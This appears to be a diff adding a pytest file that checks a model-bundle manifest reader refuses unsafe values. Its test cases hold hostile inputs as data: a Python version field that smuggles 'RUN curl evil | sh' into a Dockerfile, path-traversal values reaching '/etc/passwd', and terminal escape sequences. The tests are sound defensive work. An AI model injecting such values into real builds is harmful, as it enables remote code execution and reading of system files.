@@ -1,0 +1,56 @@
+"""What the builder's commands take from a bundle that somebody else made: nothing that leads out of it."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from layer.bundle import manifest
+from layer.errors import VerifyError
+
+TARGET = {"python": "3.13", "architecture": "x86_64", "package": "image"}
+SOURCE = {"repo": "acme/tiny", "revision": "a" * 40, "roles": ["weights"], "license": "mit"}
+MODEL = {"id": "acme/tiny", "slug": "acme--tiny", "engine": "torch", "sources": [SOURCE]}
+FILE = {"path": "models/acme--tiny/hub/x", "size": 1, "sha256": "0" * 64}
+
+
+def write(bundle: Path, **changed: Any) -> Path:
+    data = {"schema": manifest.SCHEMA, "target": TARGET, "models": [MODEL], "files": [FILE], **changed}
+    (bundle / "manifest.json").write_text(json.dumps(data))
+    return bundle
+
+
+def test_a_sound_manifest_is_read(tmp_path: Path) -> None:
+    assert manifest.read(write(tmp_path))["models"] == [MODEL]
+
+
+@pytest.mark.parametrize(
+    ("changed", "says"),
+    [
+        ({"target": {**TARGET, "python": "3.13\nRUN curl evil | sh"}}, "no version of Python"),
+        ({"target": {**TARGET, "architecture": "../x"}}, "architecture = '../x': one of x86_64, arm64"),
+        ({"target": {**TARGET, "package": "zip"}}, "package = 'zip': one of image, layer"),
+        ({"target": None}, "damaged"),
+        ({"models": {}}, "have to be lists"),
+        ({"models": [{**MODEL, "slug": "../../etc"}]}, "is a path, not the name of a file"),
+        ({"models": [{**MODEL, "engine": "../x"}]}, "engine = '../x'"),
+        ({"models": [{**MODEL, "id": "\x1b[2J"}]}, "cannot be printed"),
+        ({"models": [{**MODEL, "sources": [{**SOURCE, "repo": "../../x"}]}]}, "is no repository id"),
+        ({"models": [{**MODEL, "sources": [{**SOURCE, "revision": "../../x"}]}]}, "is no commit"),
+        ({"models": [{**MODEL, "sources": [{**SOURCE, "license": "\x1b]0;x"}]}]}, "cannot be printed"),
+        ({"files": [{**FILE, "path": "../../../etc/passwd"}]}, "no relative path|no file name"),
+        ({"files": [{**FILE, "path": "/etc/passwd"}]}, "no relative path|no file name"),
+        ({"files": [{**FILE, "sha256": "x"}]}, "is no sha256"),
+        ({"files": [{**FILE, "size": -1}]}, "is no size"),
+        ({"files": [7]}, "damaged"),
+        ({"schema": "\x1b[2J"}, "has schema"),
+    ],
+    ids=range(17),
+)
+def test_what_would_become_a_path_or_a_line_of_a_dockerfile_is_refused(
+    tmp_path: Path, changed: dict[str, Any], says: str
+) -> None:
+    with pytest.raises(VerifyError, match=says) as caught:
+        manifest.read(write(tmp_path, **changed))
+    assert str(caught.value).isprintable()
